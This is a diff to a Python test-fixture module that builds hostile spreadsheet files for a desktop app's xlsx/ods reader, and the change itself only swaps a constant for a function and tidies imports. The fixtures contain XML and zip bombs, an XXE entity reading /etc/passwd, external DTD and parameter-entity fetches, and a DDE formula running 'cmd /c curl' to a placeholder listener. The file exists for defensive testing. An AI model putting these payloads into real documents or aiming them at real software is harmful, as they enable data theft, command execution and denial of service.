@@ -8,9 +8,11 @@ from __future__ import annotations
 
 import random
 import struct
+import zipfile
 from collections.abc import Callable
 from pathlib import Path
 
+from hqd_desktop.exchange.reading.cells import column_letters
 from tests.exchange.reading import making
 from tests.exchange.reading.making import (
     MAIN,
@@ -30,8 +32,13 @@ type Make = Callable[[Path], Path]
 MEGABYTE = 1 << 20
 PLAIN = row(1, cell("A1", 1))
 SHEET, STRINGS, STYLES, BOOK = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/styles.xml", "xl/workbook.xml"
-FAR = "http://{listener}/x"
-"""Replaced by the address of a listener that must never hear of it."""
+listener = "127.0.0.1:9"
+"""Who would hear of it if an address in a file were asked for; a test puts its own ear here."""
+
+
+def far() -> str:
+    """An address that nobody may ask for."""
+    return f"http://{listener}/x"
 
 
 def parts(**changed: str | bytes | Part) -> list[Part]:
@@ -73,15 +80,15 @@ def linked(folder: Path) -> Path:
     """Everything by which a workbook can ask for an address: links, pictures, queries, formulas, templates."""
     relation = '<Relationship Id="r{}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}" TargetMode="External"/>'
     kinds = ("externalLinkPath", "image", "hyperlink", "attachedTemplate", "oleObject", "connections")
-    related = "".join(relation.format(n, kind, FAR) for n, kind in enumerate(kinds))
-    asked = [f'WEBSERVICE("{FAR}")', f"cmd|' /c curl {FAR}'!A1", f'HYPERLINK("{FAR}")', f"'[{FAR}]S'!A1"]
+    related = "".join(relation.format(n, kind, far()) for n, kind in enumerate(kinds))
+    asked = [f'WEBSERVICE("{far()}")', f"cmd|' /c curl {far()}'!A1", f'HYPERLINK("{far()}")', f"'[{far()}]S'!A1"]
     cells = [_FORMULA.format(f"{letter}2", formula) for letter, formula in zip("ABCD", asked, strict=True)]
     package = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
     more: dict[str, str | bytes | Part] = {
         "xl/worksheets/_rels/sheet1.xml.rels": package.format(related),
         "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{MAIN}"/>',
         "xl/externalLinks/_rels/externalLink1.xml.rels": package.format(related),
-        "xl/connections.xml": f'<connections xmlns="{MAIN}"><connection id="1" name="q"><webPr url="{FAR}"/></connection></connections>',
+        "xl/connections.xml": f'<connections xmlns="{MAIN}"><connection id="1" name="q"><webPr url="{far()}"/></connection></connections>',
         "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(600),
     }
     return book(folder, sheet=sheet_xml(PLAIN + row(2, *cells)), **more)
@@ -147,15 +154,9 @@ def full(folder: Path) -> Path:
 
 def wide_rows(folder: Path) -> Path:
     """Sixteen million equal cells: 300 MB of XML in a megabyte."""
-    cells = "".join(f'<c r="{making_letters(n)}1"><v>1</v></c>' for n in range(16_000))
+    cells = "".join(f'<c r="{column_letters(n)}1"><v>1</v></c>' for n in range(16_000))
     again = "<row>" + cells.replace('1"><v>', '"><v>').replace(' r="', ' x="') + "</row>"
     return bomb(folder, "sheet", again.encode(), 1000, ANY_SHEET)
-
-
-def making_letters(column: int) -> str:
-    from hqd_desktop.exchange.reading.cells import column_letters
-
-    return column_letters(column)
 
 
 def xlsb_far(folder: Path) -> Path:
@@ -192,8 +193,6 @@ def number(more: str = "") -> str:
 
 def ods_bomb(folder: Path, again: bytes, times: int) -> Path:
     made = making.ods(folder / "b.ods", "@")
-    import zipfile
-
     with zipfile.ZipFile(made) as archive:
         before, after = archive.read("content.xml").decode().split("@")
     kind = stored("mimetype", b"application/vnd.oasis.opendocument.spreadsheet")
@@ -233,8 +232,8 @@ BOOKS: dict[str, tuple[Make, str]] = {
     "billion laughs": (lambda f: book(f, sheet=defined(LAUGHS, "&a9;")), "XML definitions"),
     "quadratic growth": (lambda f: book(f, sheet=defined(f'<!ENTITY a "{"x" * 100_000}">', "&a;" * 100_000)), "XML definitions"),
     "a file of the system": (lambda f: book(f, sheet=defined('<!ENTITY a SYSTEM "file:///etc/passwd">')), "XML definitions"),
-    "an outer DTD": (lambda f: book(f, sheet=sheet_xml(PLAIN).replace("<worksheet", f'<!DOCTYPE x SYSTEM "{FAR}"><worksheet', 1)), "XML definitions"),
-    "parameter entities in the workbook": (lambda f: book(f, book=f'<!DOCTYPE x [<!ENTITY % a SYSTEM "{FAR}"> %a;]>' + making.xlsx_parts(sheet_xml(PLAIN))[BOOK]), "XML definitions"),
+    "an outer DTD": (lambda f: book(f, sheet=sheet_xml(PLAIN).replace("<worksheet", f'<!DOCTYPE x SYSTEM "{far()}"><worksheet', 1)), "XML definitions"),
+    "parameter entities in the workbook": (lambda f: book(f, book=f'<!DOCTYPE x [<!ENTITY % a SYSTEM "{far()}"> %a;]>' + making.xlsx_parts(sheet_xml(PLAIN))[BOOK]), "XML definitions"),
     "definitions in styles": (lambda f: book(f, styles='<!DOCTYPE x [<!ENTITY a "b">]><styleSheet/>'), "XML definitions"),
     "definitions in relations": (lambda f: book(f, **{"_rels/.rels": '<!DOCTYPE x [<!ENTITY a "b">]>' + making.xlsx_parts(sheet_xml(PLAIN))["_rels/.rels"]}), "XML definitions"),
     "a million elements deep": (lambda f: in_sheet(f, PLAIN + "<a>" * 1_000_000 + "</a>" * 1_000_000), "?"),
@@ -282,6 +281,6 @@ BOOKS: dict[str, tuple[Make, str]] = {
     "ods: 1 GB": (lambda f: ods_bomb(f, b"<table:table/>" * 1000, 80_000), "?"),
     "ods: definitions": (lambda f: write(f / "a.ods", [stored("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"), plain("content.xml", '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>')]), "XML definitions"),
     "ods: encrypted": (lambda f: ods(f, "", {"META-INF/manifest.xml": '<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><m:file-entry><m:encryption-data/></m:file-entry></m:manifest>'}), "password"),
-    "ods: pictures and links": (lambda f: ods(f, table(ROW.format("", f'<table:table-cell office:value-type="string"><text:p><text:a xmlns:x="http://www.w3.org/1999/xlink" x:href="{FAR}">a</text:a></text:p></table:table-cell>')) + f'<table:table table:name="b"><table:table-source xmlns:x="http://www.w3.org/1999/xlink" x:href="{FAR}"/></table:table>'), ""),
+    "ods: pictures and links": (lambda f: ods(f, table(ROW.format("", f'<table:table-cell office:value-type="string"><text:p><text:a xmlns:x="http://www.w3.org/1999/xlink" x:href="{far()}">a</text:a></text:p></table:table-cell>')) + f'<table:table table:name="b"><table:table-source xmlns:x="http://www.w3.org/1999/xlink" x:href="{far()}"/></table:table>'), ""),
 }  # fmt: skip
 """What must be said; "?" for a file that may be refused or read, as long as it does no harm."""
